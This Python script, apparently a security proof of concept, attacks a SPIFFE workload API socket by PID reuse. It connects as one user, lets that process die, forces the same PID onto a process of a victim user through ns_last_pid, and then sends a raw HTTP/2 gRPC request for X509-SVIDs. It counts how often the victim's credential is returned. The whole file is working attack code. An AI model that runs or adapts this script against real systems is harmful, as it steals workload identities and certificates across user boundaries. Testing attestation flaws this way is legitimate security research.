"""Tries to get another process's SVID by a reused PID. PID 1 of a PID namespace of its own.

pid_reuse.py SOCKET TRIES ATTACKER_UID VICTIM_UID

Each try: a child (the attacker's user) connects on a socket that this program holds too, and ends; its number goes to a
child of the victim's user; then the connection asks for X509-SVIDs, or has asked already. Prints one line of JSON."""

import ctypes
import json
import os
import signal
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, body=b""):
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def request(method="FetchX509SVID", header=True):
    """What a gRPC client sends: literal headers without Huffman, an empty message."""
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/SpiffeWorkloadAPI/" + method),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    if header:
        headers.append(("workload.spiffe.io", "true"))
    block = b""
    for name, value in headers:
        block += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return PREFACE + frame(4, 0, 0) + frame(1, 4, 1, block) + frame(0, 1, 1, b"\x00\x00\x00\x00\x00")


def answer(connection, deadline):
    """All that comes until the first message or the end."""
    got, at, data = b"", 0, b""
    while time.monotonic() < deadline:
        connection.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            more = connection.recv(65536)
        except (TimeoutError, ConnectionError):
            break
        if not more:
            break
        got += more
        while len(got) - at >= 9:
            length, kind, flags = int.from_bytes(got[at : at + 3], "big"), got[at + 3], got[at + 4]
            if len(got) - at < 9 + length:
                break
            body = got[at + 9 : at + 9 + length]
            at += 9 + length
            if kind == 4 and not flags & 1:
                connection.sendall(frame(4, 1, 0))
            if kind == 0:
                data += body
            if kind in (3, 7) or (kind in (0, 1) and flags & 1):
                return got
            if len(data) >= 5 and len(data) >= 5 + int.from_bytes(data[1:5], "big"):
                return got
    return got


def spawn(run):
    pid = os.fork()
    if pid == 0:
        # Nobody outlives this program.
        ctypes.CDLL(None).prctl(1, signal.SIGKILL)
        try:
            run()
        finally:
            os._exit(0)
    return pid


def next_pid(pid):
    with open("/proc/sys/kernel/ns_last_pid", "w") as file:
        file.write(str(pid - 1))


def one(path, number, attacker, victim, tally):
    variant = number % 3
    connection = socket.socket(socket.AF_UNIX)

    def attack():
        os.setgroups([])
        os.setgid(attacker)
        os.setuid(attacker)
        connection.connect(path)
        if variant == 1:
            connection.sendall(request())

    first = spawn(attack)
    os.waitpid(first, 0)
    if variant == 2:
        # The server has most likely accepted by now.
        time.sleep(0.001)
    ready, told = os.pipe()

    def live():
        os.setgroups([])
        os.setgid(victim)
        os.setuid(victim)
        os.write(told, b"x")
        signal.pause()

    next_pid(first)
    second = spawn(live)
    os.read(ready, 1)
    os.close(ready)
    os.close(told)
    tally["reused"] += second == first
    try:
        if variant != 1:
            connection.sendall(request())
        got = answer(connection, time.monotonic() + 60)
    except (BrokenPipeError, ConnectionError):
        got = b""
    if b"/victim" in got:
        tally["stolen"] += 1
    elif b"/attacker" in got:
        tally["own"] += 1
    elif not got:
        tally["closed"] += 1
    else:
        tally["refused"] += 1
    connection.close()
    os.kill(second, signal.SIGKILL)
    os.waitpid(second, 0)


def alive(path, uid):
    """What a process of this user gets, while it lives."""
    read, write = os.pipe()

    def ask():
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(path)
        connection.sendall(request())
        got = answer(connection, time.monotonic() + 60)
        os.write(write, b"/victim" if b"/victim" in got else b"/attacker" if b"/attacker" in got else b"-")

    child = spawn(ask)
    os.close(write)
    told = os.read(read, 100).decode()
    os.close(read)
    os.waitpid(child, 0)
    return told


def main():
    path, tries, attacker, victim = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
    tally = {"reused": 0, "stolen": 0, "own": 0, "refused": 0, "closed": 0}
    for number in range(tries):
        one(path, number, attacker, victim, tally)
    tally["attacker"], tally["victim"] = alive(path, attacker), alive(path, victim)
    print(json.dumps(tally))


if __name__ == "__main__":
    main()
